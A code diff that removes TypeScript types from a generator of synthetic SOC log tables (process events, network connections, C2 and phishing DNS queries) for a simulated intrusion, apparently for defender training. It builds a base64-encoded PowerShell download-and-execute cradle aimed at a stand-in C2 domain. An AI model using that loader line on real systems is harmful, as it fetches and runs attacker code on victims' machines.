@@ -1,9 +1,6 @@
-import { at, type LogTable } from './log-table.js';
-import type { SeededRandom } from './seeded-random.js';
-import type { SocUser, SocWorld } from './soc-world.js';
-
+import { at } from './log-table.js';
 /** Ordinary processes of a Windows workstation: image, parent, command line. */
-const routine: ReadonlyArray<[string, string, string]> = [
+const routine = [
   [
     'chrome.exe',
     'explorer.exe',
@@ -44,18 +41,16 @@ const routine: ReadonlyArray<[string, string, string]> = [
     '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe5_',
   ],
 ];
-
 /** The loader's PowerShell one-liner, encoded the way PowerShell's `-enc` expects (UTF-16LE base64). */
-function encodedCommand(world: SocWorld): string {
+function encodedCommand(world) {
   const script = `$u='https://${world.c2.domain}/cdn/v2/update.ps1';IEX (New-Object Net.WebClient).DownloadString($u)`;
   return Buffer.from(script, 'utf16le').toString('base64');
 }
-
 /** What the intrusion ran on a victim's host, minutes after `offset`. */
-function attackProcesses(world: SocWorld, user: SocUser, offset: number): (string | number)[][] {
+function attackProcesses(world, user, offset) {
   const home = `C:\\Users\\${user.upn.split('@')[0]}`;
   const { loader, payload, archiver } = world.hashes;
-  const steps: Array<[number, string, string, string, string]> = [
+  const steps = [
     [
       14,
       'powershell.exe',
@@ -105,14 +100,9 @@ function attackProcesses(world: SocWorld, user: SocUser, offset: number): (strin
     sha256 || '-',
   ]);
 }
-
 /** `process_events` of one host over a window around the intrusion. */
-export function processEvents(
-  world: SocWorld,
-  random: SeededRandom,
-  { user, attackOffset, rows: count }: { user: SocUser; attackOffset?: number; rows: number },
-): LogTable {
-  const rows: (string | number)[][] = [];
+export function processEvents(world, random, { user, attackOffset, rows: count }) {
+  const rows = [];
   const name = user.upn.split('@')[0] ?? '';
   for (let n = 0; n < count; n += 1) {
     const [image, parent, commandLine] = random.pick(routine);
@@ -132,8 +122,7 @@ export function processEvents(
     rows: rows.sort((a, b) => String(a[0]).localeCompare(String(b[0]))),
   };
 }
-
-const services: ReadonlyArray<[string, string, number]> = [
+const services = [
   ['outlook.office365.example', '198.51.100.201', 443],
   ['teams.microsoft.example', '198.51.100.202', 443],
   ['northwind.sharepoint.example', '198.51.100.203', 443],
@@ -142,18 +131,9 @@ const services: ReadonlyArray<[string, string, number]> = [
   ['dc01.corp.northwind.example', '10.20.0.10', 389],
   ['fs02.corp.northwind.example', '10.20.0.31', 445],
 ];
-
 /** `network_connections` of some hosts: routine traffic, the C2 beacon every ~60 s, and the upload. */
-export function networkConnections(
-  world: SocWorld,
-  random: SeededRandom,
-  {
-    users,
-    beaconFrom = [],
-    minutes,
-  }: { users: readonly SocUser[]; beaconFrom?: readonly SocUser[]; minutes: number },
-): LogTable {
-  const rows: (string | number)[][] = [];
+export function networkConnections(world, random, { users, beaconFrom = [], minutes }) {
+  const rows = [];
   for (const user of users) {
     for (let n = random.int(25, 40); n > 0; n -= 1) {
       const [domain, ip, port] = random.pick(services);
@@ -199,10 +179,9 @@ export function networkConnections(
     rows: rows.sort((a, b) => String(a[0]).localeCompare(String(b[0]))),
   };
 }
-
 /** `dns_queries` for the C2 domain across the fleet. */
-export function c2DnsQueries(world: SocWorld, random: SeededRandom): LogTable {
-  const rows: (string | number)[][] = [];
+export function c2DnsQueries(world, random) {
+  const rows = [];
   world.victims.forEach((user, index) => {
     const queries = index === 2 ? 1 : random.int(14, 20);
     for (let n = 0; n < queries; n += 1) {
@@ -211,9 +190,8 @@ export function c2DnsQueries(world: SocWorld, random: SeededRandom): LogTable {
   });
   return { columns: ['timestamp', 'host', 'query', 'response', 'query_type'], rows };
 }
-
 /** Process events fleet-wide whose image hash is one of the attack's. */
-export function hashHits(world: SocWorld): LogTable {
+export function hashHits(world) {
   const rows = world.victims
     .slice(0, 2)
     .flatMap((user, index) => attackProcesses(world, user, index * 47))
@@ -223,9 +201,8 @@ export function hashHits(world: SocWorld): LogTable {
     rows,
   };
 }
-
 /** `dns_queries` for the phishing domain: every host whose user opened the lure's link. */
-export function phishDnsQueries(world: SocWorld, random: SeededRandom): LogTable {
+export function phishDnsQueries(world, random) {
   const clicked = [...world.victims, ...world.users.slice(3, 9).filter(() => random.chance(0.6))];
   const rows = clicked.flatMap((user, index) =>
     Array.from({ length: random.int(2, 5) }, (_, n) => [
